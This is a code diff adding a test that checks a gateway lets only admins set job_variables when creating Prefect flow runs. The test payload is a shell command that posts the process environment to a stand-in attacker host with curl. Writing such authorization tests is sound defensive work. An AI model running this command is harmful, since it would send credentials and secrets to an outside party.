@@ -68,6 +68,25 @@ def test_a_request_for_a_team_you_are_not_in_is_refused(
     assert "you are erin, not a member of team payments" in answer.json()["detail"]
 
 
+def test_job_variables_are_for_admins(
+    gateway: Gateway, deployments: Deployments, prefect_server: PrefectServer
+) -> None:
+    path = f"/deployments/{deployments.action}/create_flow_run"
+    command = {"command": "sh -c 'curl -d @/proc/self/environ evil.example'"}
+    with gateway.api("dave") as api:
+        refused = api.post(path, json={**request_body(), "job_variables": command})
+        # The UI's run form sends an empty object.
+        allowed = api.post(path, json={**request_body(), "job_variables": {}})
+    with gateway.api("alice") as api:
+        by_admin = api.post(path, json={**request_body(team="platform"), "job_variables": command})
+    assert refused.status_code == 403
+    assert "you are dave; job_variables (the command, environment and image" in refused.text
+    assert allowed.status_code == 201, allowed.text
+    assert by_admin.status_code == 201, by_admin.text
+    with prefect_server.client() as prefect:
+        assert prefect.get(f"/flow_runs/{by_admin.json()['id']}").json()["job_variables"] == command
+
+
 def test_housekeeping_is_for_admins(gateway: Gateway, deployments: Deployments) -> None:
     path = f"/deployments/{deployments.housekeeping}/create_flow_run"
     with gateway.api("dave") as api:
